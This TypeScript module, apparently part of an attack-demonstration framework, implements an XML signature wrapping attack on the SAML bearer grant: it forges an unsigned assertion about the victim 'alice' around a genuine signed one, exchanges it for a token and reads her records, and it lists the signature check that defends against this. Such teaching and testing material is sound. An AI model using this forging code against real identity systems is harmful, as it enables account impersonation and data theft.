import { joinRules } from '../../../protocol/rules/rule.js'
import { attack } from '../model.js'
import { grantRequest, stealRecords } from '../moves.js'

const SAML_GRANT = 'urn:ietf:params:oauth:grant-type:saml2-bearer'

const SIGNATURE = /<ds:Signature[\s\S]*<\/ds:Signature>/

/**
 * Wraps a signed assertion (XML signature wrapping): a new assertion about somebody else is the document, and the signed
 * one lies inside it, untouched, where nobody reads it.
 */
function wrapped(signed: string, from: string, to: string, id: string): string {
  const forged = signed
    .replace(SIGNATURE, '')
    .replace(/ ID="[^"]*"/, ` ID="${id}"`)
    .replace(`>${from}</saml:NameID>`, `>${to}</saml:NameID>`)
  return forged.replace('</saml:Assertion>', `<saml:Advice>${signed}</saml:Advice></saml:Assertion>`)
}

/** A signed assertion that is moved aside, so that the server reads an unsigned one. */
export const samlWrapping = attack({
  name: 'saml-wrapping',
  title: 'a signed assertion with an unsigned one around it',
  rule: 'RFC 7522 §3',
  weak: ['saml-wrapping'],
  opened: { 'saml-wrapping': { stolen: true } },
  starts: [
    'The attacker has an account at the identity provider, and one signed assertion about themselves.',
    'The attacker has a client that may exchange assertions for tokens.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'signature', rule: joinRules('RFC 7522 §3', 'XMLDSig §3.2') }],
  wouldNotHelp: [
    'a stronger signature: the signature is real, and holds',
    'short assertions, and audiences: the attacker copies all of them',
    'TLS: nothing is changed on the way',
  ],
  clients: () => [
    {
      client_id: 'mallory-reports',
      client_name: 'Reports of Mallory',
      grant_types: [SAML_GRANT],
      client_secret: 'a-secret-of-mallory-0123456789abcdef0123',
    },
  ],
  noWindow: 'the victim does nothing in it',
  running: { standIn: 'demo', ownIssuer: true },
  story: {
    attacker_login:
      'The attacker logs in as themselves. The identity provider signs an assertion about them.',
    forgery: 'The attacker writes a second assertion, about alice, and puts the signed one inside it.',
    token_request: 'The attacker sends the document. The server must read only what the signature covers.',
    resource_request: 'The attacker reads the records with a token about alice.',
  },
  lanes: {
    attacker_login: ['attacker', 'attacker', 'log in at the identity provider', '7522 §2.1'],
    forgery: ['attacker', 'attacker', 'wrap the assertion', '7522 §3'],
    token_request: ['attacker', 'authorization_server', 'POST /token', '7522 §2.1'],
  },
  async *run(scene) {
    const { attacker, victim, urls, random, step } = scene
    const [from, to] = [attacker.account.username, victim.account.username]
    const own = await scene.ownAssertion(`${urls.authorization}/token`)
    yield step('attacker_login', { note: `an assertion about ${from}, signed` })

    const signed = Buffer.from(own, 'base64url').toString('utf8')
    const forged = wrapped(signed, from, to, `_${Buffer.from(random(16)).toString('hex')}`)
    yield step('forgery', { note: `a new assertion about ${to} around it, not signed` })
    const assertion = Buffer.from(forged, 'utf8').toString('base64url')
    const asked = { assertion, scope: 'records:read' }
    return yield* stealRecords(scene, grantRequest(scene, scene.catcher.client, SAML_GRANT, asked))
  },
})
